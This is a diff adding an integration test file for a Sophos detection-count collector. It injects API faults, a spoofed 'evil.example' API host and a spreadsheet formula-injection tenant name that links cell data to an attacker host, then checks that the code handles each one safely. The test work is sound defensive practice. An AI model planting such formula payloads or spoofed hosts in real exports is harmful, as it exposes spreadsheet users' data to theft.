@@ -1,0 +1,246 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { hostileNames } from '../../local/simulator/distort.ts'
+import { type Line, startLine } from './line.ts'
+
+const id = (n: number) => `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`
+const tenants = Array.from({ length: 40 }, (_, n) => ({ id: id(n), detectionsPerDay: 50 }))
+
+describe('one run through every kind of trouble', () => {
+  let line: Line
+  let result: Awaited<ReturnType<Line['invoke']>>
+
+  beforeAll(async () => {
+    const odd = [
+      { access: 'unlicensed' },
+      { access: 'unmanaged' },
+      { apiHost: null },
+      { apiHost: 'https://api-eu01.central.sophos.com.evil.example' },
+      { apiHost: '' },
+    ] as const
+    line = await startLine({ simulator: { tenants: tenants.map((tenant, n) => ({ ...tenant, ...odd[n] })) } })
+    const { add } = line.simulator.faults
+    const counts = { endpoint: 'counts' } as const
+    add({ ...counts, tenantId: id(10), kind: 'status', status: 500, times: 1 })
+    add({ ...counts, tenantId: id(11), kind: 'status', status: 503, body: '<html>busy</html>', times: 2 })
+    add({ ...counts, tenantId: id(12), kind: 'reset', times: 1 })
+    add({ ...counts, tenantId: id(13), kind: 'garbage', as: 'html', times: 1 })
+    add({ ...counts, tenantId: id(14), kind: 'garbage', as: 'json', times: 1 })
+    add({ ...counts, tenantId: id(15), kind: 'expireTokens', times: 1 })
+    add({
+      ...counts,
+      tenantId: id(16),
+      kind: 'status',
+      status: 429,
+      headers: { 'retry-after': '1' },
+      times: 1,
+    })
+    add({
+      ...counts,
+      tenantId: id(17),
+      kind: 'status',
+      status: 404,
+      body: { error: 'notFound', message: 'No such thing' },
+    })
+    add({ ...counts, tenantId: id(18), kind: 'status', status: 400, body: { error: 'badRequest' } })
+    add({
+      ...counts,
+      tenantId: id(19),
+      kind: 'status',
+      status: 500,
+      body: { message: 'An unexpected error occurred' },
+    })
+    add({ ...counts, tenantId: id(20), kind: 'reset' })
+    add({ ...counts, tenantId: id(21), kind: 'garbage', as: 'html' })
+    add({ ...counts, tenantId: id(22), kind: 'noSeverities' })
+    add({ ...counts, tenantId: id(23), kind: 'status', status: 401, body: { error: 'Unauthorized' } })
+    add({ endpoint: 'partnerTenants', kind: 'noPageTotal' })
+    result = await line.invoke()
+  })
+  afterAll(() => line.close())
+
+  it('ends well, with a row for every tenant that is listed', async () => {
+    expect(result).toMatchObject({ ok: true, value: { result: 'complete' } })
+    const rows = await line.rows()
+    expect(rows.map(({ ID }) => ID).sort()).toEqual(tenants.map(tenant => tenant.id).sort())
+  })
+
+  it.each([
+    ['a 500', 10],
+    ['two 503s in HTML', 11],
+    ['a reset', 12],
+    ['a web page instead of JSON', 13],
+    ['JSON that breaks off', 14],
+    ['a token that expired in the middle', 15],
+    ['a 429', 16],
+  ])('gets over %s', async (_, n) => {
+    await expect(line.row(id(n))).resolves.toMatchObject({
+      Status: 'ok',
+      Reason: '',
+      Detections_Critical: expect.stringMatching(/^\d+$/),
+      Detections_Total: expect.stringMatching(/^\d+$/),
+    })
+  })
+
+  it.each([
+    ['no licence', 0, 'forbidden', /XDR or MDR licence/],
+    ['no partner assistance', 1, 'forbidden', /Forbidden/],
+    ['no apiHost', 2, 'inactive', /not activated/],
+    ['an apiHost elsewhere', 3, 'failed', /evil\.example.*was not contacted/],
+    ['an empty apiHost', 4, 'inactive', /not activated/],
+    ['404', 17, 'not_found', /No such thing/],
+    ['400', 18, 'failed', /Sophos answered 400/],
+    ['500 that stays', 19, 'failed', /Sophos answered 500\. Sophos said: An unexpected error occurred/],
+    ['resets that stay', 20, 'failed', /could not be reached/],
+    ['web pages that stay', 21, 'failed', /not JSON/],
+    ['401 that stays', 23, 'failed', /Sophos answered 401/],
+  ])('shows %s as a status with a reason, and unknown counts as empty', async (_, n, status, reason) => {
+    await expect(line.row(id(n))).resolves.toMatchObject({
+      Status: status,
+      Reason: expect.stringMatching(reason),
+      Detections_Critical: '',
+      Detections_Info: '',
+      Detections_Total: '',
+      Collected_At: '',
+      Hourly: '',
+    })
+  })
+
+  it('shows a total whose severities Sophos did not tell as that', async () => {
+    await expect(line.row(id(22))).resolves.toMatchObject({
+      Status: 'ok',
+      Detections_Critical: '',
+      Detections_Total: expect.stringMatching(/^[1-9]\d*$/),
+      Reason: expect.stringMatching(/did not tell the severities/),
+    })
+  })
+
+  it('tries what stays broken a bounded number of times, and what is refused once', () => {
+    const calls = (n: number) =>
+      line.simulator.log.filter(({ endpoint, tenantId }) => endpoint === 'counts' && tenantId === id(n))
+    expect([19, 20, 21].map(n => calls(n).length)).toEqual([4, 4, 4])
+    expect([0, 1, 17, 18].map(n => calls(n).length)).toEqual([1, 1, 1, 1])
+    expect([2, 3, 4].map(n => calls(n).length)).toEqual([0, 0, 0])
+  })
+})
+
+describe('the next run', () => {
+  it('keeps the last good counts and their age of a tenant that fails, and names as text', async () => {
+    const line = await startLine({ simulator: { tenants: tenants.slice(0, 14) } })
+    try {
+      await line.invoke()
+      const before = await line.row(id(3))
+      line.simulator.faults.add({ endpoint: 'counts', tenantId: id(3), kind: 'status', status: 403 })
+      line.simulator.faults.add({ endpoint: 'partnerTenants', kind: 'hostileNames' })
+      await line.invoke()
+      const { Name: _, ...counts } = before ?? {}
+      await expect(line.row(id(3))).resolves.toMatchObject({
+        ...counts,
+        Status: 'forbidden',
+        Reason: expect.stringMatching(/licence/),
+      })
+      const names = (await line.rows()).map(({ Name }) => Name ?? '')
+      expect(names).toHaveLength(hostileNames.length)
+      expect(names).toEqual(
+        expect.arrayContaining([
+          `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
+          "'+1-555-0100",
+          'two lines, "quoted"',
+        ]),
+      )
+      for (const name of names) expect(name).not.toMatch(/^[=+\-@]|\p{Cc}/u)
+    } finally {
+      await line.close()
+    }
+  })
+
+  it.each([
+    [
+      'the token is refused',
+      { endpoint: 'token', kind: 'status', status: 401, body: { errorCode: 'oauth.invalid_client_secret' } },
+      /refused the credentials \(oauth\.invalid_client_secret\)\. Check that the secret/,
+    ],
+    [
+      'whoami breaks',
+      { endpoint: 'whoami', kind: 'status', status: 403 },
+      /did not tell whose credential.*role/,
+    ],
+    [
+      'a page of the list breaks',
+      { endpoint: 'partnerTenants', kind: 'status', status: 400, body: { message: 'Odd' } },
+      /tenant list could not be had: Sophos answered 400, "Odd"/,
+    ],
+  ] as const)('leaves the rows as they were where %s, says why, and fails', async (_, fault, message) => {
+    const line = await startLine({ simulator: { tenants: tenants.slice(0, 3) } })
+    try {
+      await line.invoke()
+      const before = await line.object('detections.csv')
+      const remove = line.simulator.faults.add(fault)
+      await expect(line.invoke()).resolves.toMatchObject({
+        ok: false,
+        errorType: 'RunFailedError',
+        errorMessage: expect.stringMatching(message),
+      })
+      await expect(line.object('detections.csv')).resolves.toBe(before)
+      expect(JSON.parse(await line.object('status.json'))).toMatchObject({
+        tenants: { total: 3, byStatus: { ok: 3 } },
+        sources: [{ run: { result: 'failed', message: expect.stringMatching(message) } }],
+      })
+      remove()
+      await expect(line.invoke()).resolves.toMatchObject({ ok: true, value: { result: 'complete' } })
+    } finally {
+      await line.close()
+    }
+  })
+
+  it.each([
+    ['is not JSON', 'hello hunter2'],
+    ['lacks the client secret', '{"clientId":"hunter2"}'],
+    ['is empty', '{"clientId":"","clientSecret":"hunter2"}'],
+  ])('says what to put into a secret that %s, without quoting it', async (_, secret) => {
+    const line = await startLine({ simulator: { tenants: 1 }, secret })
+    try {
+      await expect(line.invoke()).resolves.toMatchObject({
+        ok: false,
+        errorMessage: expect.stringMatching(
+          /The secret credentials holds no credentials\. Put \{"clientId": "\.\.\."/,
+        ),
+      })
+      expect(line.simulator.log).toEqual([])
+      expect([...line.logs, await line.object('status.json')].join('\n')).not.toContain('hunter2')
+    } finally {
+      await line.close()
+    }
+  })
+
+  it('waits no budget out that would pass its time: it publishes what it has and leaves the rest to the next run', async () => {
+    const line = await startLine({
+      simulator: { tenants: 30 },
+      env: { SOPHOS_RATE_LIMITS: '20/m' },
+      timeoutMs: 20_000,
+    })
+    try {
+      await expect(line.invoke()).resolves.toMatchObject({
+        ok: true,
+        value: {
+          result: 'partial',
+          calls: { made: 20 },
+          message: expect.stringMatching(/left for the next run: The budget of 20\/m has no room before/),
+        },
+      })
+      const rows = await line.rows()
+      expect(rows).toHaveLength(30)
+      expect(rows.filter(({ Status }) => Status === 'pending').length).toBeGreaterThanOrEqual(12)
+      await expect(line.invoke()).resolves.toMatchObject({
+        ok: true,
+        value: {
+          result: 'partial',
+          calls: { made: 0 },
+          message: expect.stringMatching(/^No call could be made: The budget of 20\/m/),
+        },
+      })
+      await expect(line.rows()).resolves.toEqual(rows)
+    } finally {
+      await line.close()
+    }
+  })
+})
